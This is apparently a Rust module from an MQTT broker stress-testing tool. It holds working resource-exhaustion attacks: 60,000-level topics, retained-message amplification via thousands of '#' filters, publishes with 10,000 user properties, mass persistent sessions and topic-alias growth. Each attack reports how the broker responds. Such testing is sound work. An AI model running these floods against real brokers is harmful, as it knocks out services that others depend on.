//! Attacks on what the broker holds: deep topics, retained and queued messages, user
//! properties, overlapping subscriptions, sessions, topic aliases. Each builds its state
//! from one client (or one user), holds it while the healthy client is measured, and
//! reports what the broker answered.

use std::time::Duration;

use tokio::time::Instant;

use super::kit::{self, codes, flood1, session, subscribe};
use super::raw::{topic_alias, Read, PUBLISH, SUBACK};
use super::{Report, Target};
use crate::proto::{self, prop, Version};

/// Filters / topics of `levels` levels: `first` then `levels - 1` empty levels.
fn deep(first: &str, levels: usize) -> String {
    let mut s = String::with_capacity(first.len() + levels);
    s.push_str(first);
    for _ in 1..levels {
        s.push('/');
    }
    s
}

const DEEP: usize = 60_000;

/// One 180 KB SUBSCRIBE with three 60,000-level filters.
pub async fn deep_subscribe(t: &Target) -> Result<Report, String> {
    let mut c = kit::client(t.addr, Version::V311, "atk-deep-sub").await?;
    let filters: Vec<String> = ["x", "y", "z"].iter().map(|f| deep(f, DEEP)).collect();
    let list: Vec<(&[u8], u8)> = filters.iter().map(|f| (f.as_bytes(), 1)).collect();
    let mut b = Vec::new();
    proto::subscribe_with(&mut b, c.v, 1, &[], &list);
    let size = b.len();
    c.send_by(&b, t.until).await?;
    let d = c.drain(t.hold()).await;
    let answer = match &d.suback {
        Some(s) => format!("SUBACK {}", codes(s)),
        None => "no SUBACK".into(),
    };
    kit::leave(c).await;
    Ok(Report::new(
        format!("{answer}; {}", d.fate()),
        format!("1 SUBSCRIBE of {size} B, 3 filters x {DEEP} levels"),
    ))
}

/// PUBLISHes to 60,000-level topics, with a subscriber of `#`.
pub async fn deep_publish(t: &Target) -> Result<Report, String> {
    let mut sub = kit::client(t.addr, Version::V311, "atk-deep-pub-sub").await?;
    let sub_codes = subscribe(&mut sub, &["#"], 0).await?;
    let reader = tokio::spawn(async move {
        let d = sub.drain(Duration::from_secs(25)).await;
        d.publishes
    });
    let mut c = kit::client(t.addr, Version::V311, "atk-deep-pub").await?;
    let n = 500;
    let (sent, outcome) = kit::flood0(&mut c, n, t.until, |i, b| {
        let topic = deep(&format!("p{i}"), DEEP);
        proto::publish_with(b, Version::V311, topic.as_bytes(), 0, false, 0, &[], b"x");
    })
    .await;
    let d = c.drain(Duration::from_millis(500)).await;
    kit::leave(c).await;
    reader.abort();
    Ok(Report::new(
        format!("{outcome}; {}", d.fate()),
        format!(
            "{sent}/{n} QoS 0 PUBLISH to distinct {DEEP}-level topics (~60 KB each); subscriber of # ({})",
            codes(&sub_codes)
        ),
    ))
}

/// Retained messages on distinct 60,000-level topics.
pub async fn deep_retain(t: &Target) -> Result<Report, String> {
    let n = 50;
    let p = flood1(t, Version::V311, "atk-deep-retain", n, 10, |i, id, b| {
        let topic = deep(&format!("r{i}"), DEEP);
        proto::publish_with(b, Version::V311, topic.as_bytes(), 1, true, id, &[], b"x");
    })
    .await?;
    tokio::time::sleep(t.hold()).await;
    Ok(Report::new(
        p.summary(n),
        format!("{n} retained QoS 1 PUBLISH to distinct {DEEP}-level topics"),
    ))
}

/// R retained messages, then one SUBSCRIBE with K copies of `#` (K*R deliveries).
pub async fn retained_amp(t: &Target) -> Result<Report, String> {
    let (r, k) = (1000, 17_500);
    let p = flood1(t, Version::V311, "atk-amp-pub", r, 100, |i, id, b| {
        let topic = format!("amp/{i}");
        proto::publish_with(
            b,
            Version::V311,
            topic.as_bytes(),
            1,
            true,
            id,
            &[],
            &[b'r'; 64],
        );
    })
    .await?;
    let mut a = kit::client(t.addr, Version::V311, "atk-amp-sub").await?;
    let list: Vec<(&[u8], u8)> = (0..k).map(|_| (&b"#"[..], 1)).collect();
    let mut b = Vec::new();
    proto::subscribe_with(&mut b, a.v, 1, &[], &list);
    let size = b.len();
    a.send_by(&b, t.until).await?;
    // The attacker reads nothing while the broker queues; then a look at what came.
    tokio::time::sleep(t.hold()).await;
    let d = a.drain(Duration::from_secs(2)).await;
    let answer = match &d.suback {
        Some(s) => format!("SUBACK {}", codes(s)),
        None => "no SUBACK read".into(),
    };
    drop(a);
    Ok(Report::new(
        format!(
            "{answer}; {} retained deliveries read in 2 s; {}",
            d.publishes,
            d.fate()
        ),
        format!(
            "{r} retained x 64 B ({}), then 1 SUBSCRIBE of {size} B with {k} x `#` QoS 1",
            p.summary(r)
        ),
    ))
}

/// `count` empty user properties (5 bytes each on the wire).
fn user_props(count: usize) -> Vec<u8> {
    let mut p = Vec::with_capacity(count * 5);
    for _ in 0..count {
        prop::user(&mut p, b"", b"");
    }
    p
}

const PROPS: usize = 10_000;
const PROP_MSGS: usize = 400;

/// QoS 1 PUBLISHes with 10,000 user properties each to an offline persistent subscriber.
pub async fn user_props_queued(t: &Target) -> Result<Report, String> {
    let mut s = session(t.addr, Version::V5, "atk-up-sub", Some(3600), &[]).await?;
    subscribe(&mut s, &["up/t"], 1).await?;
    kit::leave(s).await;
    let props = user_props(PROPS);
    let p = flood1(t, Version::V5, "atk-up-pub", PROP_MSGS, 20, |_, id, b| {
        proto::publish_with(b, Version::V5, b"up/t", 1, false, id, &props, b"8 bytes!");
    })
    .await?;
    tokio::time::sleep(t.hold()).await;
    Ok(Report::new(
        p.summary(PROP_MSGS),
        format!(
            "{PROP_MSGS} QoS 1 PUBLISH x {PROPS} user properties ({} KB) to an offline session",
            props.len() / 1000
        ),
    ))
}

/// Retained messages with 10,000 user properties each.
pub async fn user_props_retained(t: &Target) -> Result<Report, String> {
    let props = user_props(PROPS);
    let p = flood1(t, Version::V5, "atk-upr-pub", PROP_MSGS, 20, |i, id, b| {
        let topic = format!("upr/{i}");
        proto::publish_with(
            b,
            Version::V5,
            topic.as_bytes(),
            1,
            true,
            id,
            &props,
            b"8 bytes!",
        );
    })
    .await?;
    tokio::time::sleep(t.hold()).await;
    Ok(Report::new(
        p.summary(PROP_MSGS),
        format!(
            "{PROP_MSGS} retained QoS 1 PUBLISH x {PROPS} user properties ({} KB)",
            props.len() / 1000
        ),
    ))
}

/// 8,192 filters of one 5.0 client that all match one topic, each with its own
/// Subscription Identifier; then 40-byte PUBLISHes to that topic, the subscriber not
/// reading.
pub async fn overlap_subs(t: &Target) -> Result<Report, String> {
    const LEVELS: usize = 13;
    let n = 1usize << LEVELS;
    let mut s = kit::client(t.addr, Version::V5, "atk-overlap-sub").await?;
    let mut b = Vec::new();
    for i in 0..n {
        let f: Vec<&str> = (0..LEVELS)
            .map(|l| if i >> l & 1 == 1 { "+" } else { "a" })
            .collect();
        let mut props = Vec::new();
        prop::varint(&mut props, prop::SUBSCRIPTION_ID, i + 1);
        proto::subscribe_with(
            &mut b,
            Version::V5,
            (i % 65_535 + 1) as u16,
            &props,
            &[(f.join("/").as_bytes(), 1)],
        );
    }
    s.send_by(&b, t.until).await?;
    let mut granted = Vec::new();
    let mut fate = None;
    while granted.len() < n {
        match s.read_until(t.until).await {
            Read::Got(p) if p.kind() == SUBACK => {
                granted.extend_from_slice(super::raw::suback_codes(&p, Version::V5))
            }
            Read::Got(_) => {}
            other => {
                fate = Some(super::raw::describe(&other));
                break;
            }
        }
    }
    let topic = vec!["a"; LEVELS].join("/");
    let msgs = 200;
    let p = flood1(t, Version::V5, "atk-overlap-pub", msgs, 20, |_, id, b| {
        proto::publish_with(
            b,
            Version::V5,
            topic.as_bytes(),
            1,
            false,
            id,
            &[],
            &[b'p'; 40],
        );
    })
    .await?;
    tokio::time::sleep(t.hold()).await;
    // What one delivery looks like: the first few.
    let mut sizes = Vec::new();
    let until = Instant::now() + Duration::from_secs(2);
    while sizes.len() < 20 {
        match s.read_until(until).await {
            Read::Got(p) if p.kind() == PUBLISH => sizes.push(p.body.len()),
            Read::Got(_) => {}
            _ => break,
        }
    }
    drop(s);
    let avg = if sizes.is_empty() {
        "none read".to_string()
    } else {
        format!(
            "{} read, {} B each on average",
            sizes.len(),
            sizes.iter().sum::<usize>() / sizes.len()
        )
    };
    Ok(Report::new(
        format!(
            "SUBACK {}{}; publisher {}; deliveries: {avg}",
            codes(&granted),
            fate.map(|f| format!(" then {f}")).unwrap_or_default(),
            p.summary(msgs)
        ),
        format!("{n} overlapping filters with subscription ids, {msgs} x 40 B QoS 1 PUBLISH"),
    ))
}

/// Many persistent sessions, each with one subscription, created one after the other.
pub async fn sessions(t: &Target) -> Result<Report, String> {
    let n = 5000;
    let mut made = 0;
    let mut stop = None;
    let mut set = tokio::task::JoinSet::new();
    let mut next = 0usize;
    let start = Instant::now();
    while made < n && Instant::now() < t.until {
        while set.len() < 50 && next < n {
            let addr = t.addr;
            let i = next;
            next += 1;
            set.spawn(async move {
                let id = format!("atk-sess-{i}");
                let mut c = session(addr, Version::V311, &id, Some(3600), &[]).await?;
                subscribe(&mut c, &[&format!("sess/{i}")], 1).await?;
                kit::leave(c).await;
                Ok::<(), String>(())
            });
        }
        match set.join_next().await {
            Some(Ok(Ok(()))) => made += 1,
            Some(Ok(Err(e))) => {
                stop.get_or_insert(e);
            }
            Some(Err(e)) => {
                stop.get_or_insert(e.to_string());
            }
            None => break,
        }
    }
    set.abort_all();
    Ok(Report::new(
        format!(
            "{made}/{n} sessions accepted in {:.1} s{}",
            start.elapsed().as_secs_f64(),
            stop.map(|e| format!("; first refusal: {e}"))
                .unwrap_or_default()
        ),
        format!("{n} persistent sessions x 1 subscription"),
    ))
}

/// Many retained messages of 1 KB from one client.
pub async fn retained_many(t: &Target) -> Result<Report, String> {
    let n = 20_000;
    let p = flood1(t, Version::V311, "atk-retained", n, 100, |i, id, b| {
        let topic = format!("ret/{i}");
        proto::publish_with(
            b,
            Version::V311,
            topic.as_bytes(),
            1,
            true,
            id,
            &[],
            &[b'r'; 1024],
        );
    })
    .await?;
    tokio::time::sleep(t.hold()).await;
    Ok(Report::new(
        p.summary(n),
        format!("{n} retained QoS 1 x 1 KB, distinct topics"),
    ))
}

/// Offline persistent sessions, each queued 1,000 distinct 1 KB QoS 1 messages.
pub async fn queued(t: &Target) -> Result<Report, String> {
    let (subs, per) = (50, 1000);
    for i in 0..subs {
        let mut s = session(
            t.addr,
            Version::V311,
            &format!("atk-q-{i}"),
            Some(3600),
            &[],
        )
        .await?;
        subscribe(&mut s, &[&format!("qd/{i}")], 1).await?;
        kit::leave(s).await;
    }
    let n = subs * per;
    let p = flood1(t, Version::V311, "atk-q-pub", n, 100, |i, id, b| {
        let topic = format!("qd/{}", i % subs);
        let mut payload = [b'q'; 1024];
        payload[..8].copy_from_slice(&(i as u64).to_be_bytes());
        proto::publish_with(
            b,
            Version::V311,
            topic.as_bytes(),
            1,
            false,
            id,
            &[],
            &payload,
        );
    })
    .await?;
    tokio::time::sleep(t.hold()).await;
    Ok(Report::new(
        p.summary(n),
        format!("{subs} offline sessions x {per} QoS 1 x 1 KB"),
    ))
}

/// A 5.0 subscriber announcing Topic Alias Maximum 65535, and PUBLISHes to 20,000
/// distinct 1 KB topics: the broker's outgoing alias map may keep every topic.
pub async fn topic_alias_growth(t: &Target) -> Result<Report, String> {
    let mut props = Vec::new();
    prop::u16(&mut props, prop::TOPIC_ALIAS_MAX, 65_535);
    let mut s = session(t.addr, Version::V5, "atk-alias-sub", None, &props).await?;
    subscribe(&mut s, &["ta/#"], 0).await?;
    let n = 20_000;
    let reader = tokio::spawn(async move {
        let (mut got, mut aliased, mut max_alias) = (0u64, 0u64, 0u16);
        let mut until = Instant::now() + Duration::from_secs(30);
        loop {
            match s.read_until(until).await {
                Read::Got(p) if p.kind() == PUBLISH => {
                    got += 1;
                    until = Instant::now() + Duration::from_secs(3);
                    if let Some(a) = topic_alias(&p) {
                        aliased += 1;
                        max_alias = max_alias.max(a);
                    }
                }
                Read::Got(_) => {}
                _ => return (got, aliased, max_alias, s),
            }
        }
    });
    let mut c = kit::client(t.addr, Version::V5, "atk-alias-pub").await?;
    let long = "l".repeat(1000);
    let (sent, outcome) = kit::flood0(&mut c, n, t.until, |i, b| {
        let topic = format!("ta/{i}/{long}");
        proto::publish_with(b, Version::V5, topic.as_bytes(), 0, false, 0, &[], b"x");
    })
    .await;
    kit::leave(c).await;
    let (got, aliased, max_alias, s) = reader.await.map_err(|e| e.to_string())?;
    // Hold the subscriber (and whatever the broker keeps for it) while measured.
    tokio::time::sleep(t.hold()).await;
    drop(s);
    Ok(Report::new(
        format!(
            "publisher: {outcome}; subscriber got {got}, {aliased} with a topic alias (highest {max_alias})"
        ),
        format!("{sent}/{n} QoS 0 PUBLISH to distinct 1 KB topics, subscriber Topic Alias Maximum 65535"),
    ))
}
